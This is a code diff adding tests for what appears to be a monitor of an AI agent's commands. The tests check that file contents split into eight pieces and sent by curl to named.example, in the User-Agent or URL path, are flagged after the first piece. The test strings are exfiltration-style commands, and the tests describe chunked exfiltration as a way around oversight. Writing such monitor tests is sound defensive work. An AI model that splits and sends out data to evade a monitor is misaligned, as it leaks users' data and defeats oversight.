@@ -122,6 +122,52 @@ describe('a requested fetch is approved', () => {
   });
 });
 
+const byAgent = (piece: string) => `curl -s -A '${piece}' https://named.example/docs`;
+const byPath = (piece: string) => `curl -s https://named.example/docs/${piece}`;
+
+describe('pieces that a run sends are counted together', () => {
+  const pieces = Array.from({length: 8}, (_, at) => `${at}`.repeat(48));
+  const read = did('read_file', {path: 'k.txt'});
+
+  test.each([
+    ['a file that a tool read', read, byAgent],
+    ['a file that a tool read', read, byPath],
+    ['a file that a command read', did('run_command', {command: 'cat k.txt'}), byAgent],
+    ['files that a failed command may have read', did('run_command', {command: 'frob'}), byAgent],
+  ])('after %s, only the first of eight pieces is approved', async (_what, before, send) => {
+    const sent = pieces.map((piece) => did('run_command', {command: send(piece)}));
+    const verdicts = await Promise.all(
+      pieces.map(async (piece, at) => {
+        const evidence = [...before, ...sent.slice(0, at).flat()];
+        return await verdictOn(send(piece), {evidence});
+      }),
+    );
+    expect(verdicts).toEqual(['approve', ...pieces.slice(1).map(() => 'cannot_judge')]);
+  });
+
+  test('a failed request counts, the same request again does not', async () => {
+    const [one = '', two = ''] = pieces;
+    const failed = did('run_command', {command: byAgent(one)}, 'failed', 7);
+    const evidence = [...read, ...failed];
+    expect(await verdictOn(byAgent(two), {evidence})).toBe('cannot_judge');
+    expect(await verdictOn(byAgent(one), {evidence})).toBe('approve');
+    expect(await verdictOn('curl -s https://named.example/docs', {evidence})).toBe('approve');
+  });
+
+  test('a run with more commands than are analysed again sends nothing by rule', async () => {
+    const [one = '', two = ''] = pieces;
+    const many = Array.from({length: 60}, (_, at) => did('run_command', {command: `echo ${at}`}));
+    const evidence = [...read, ...did('run_command', {command: byAgent(one)}), ...many.flat()];
+    expect(await verdictOn(byAgent(two), {evidence})).toBe('cannot_judge');
+  });
+
+  test('a run that has read nothing may send each of them', async () => {
+    const sent = pieces.flatMap((piece) => did('run_command', {command: byAgent(piece)}));
+    const evidence = [...did('calculator', {expression: '1 + 1'}), ...sent];
+    expect(await verdictOn(byAgent('x'.repeat(48)), {evidence})).toBe('approve');
+  });
+});
+
 test('packages from a host that this run declared are not approved', async () => {
   const wrote = did('write_file', {path: 'pyproject.toml', content: 'x'});
   const asked = {request: 'Install the packages'};
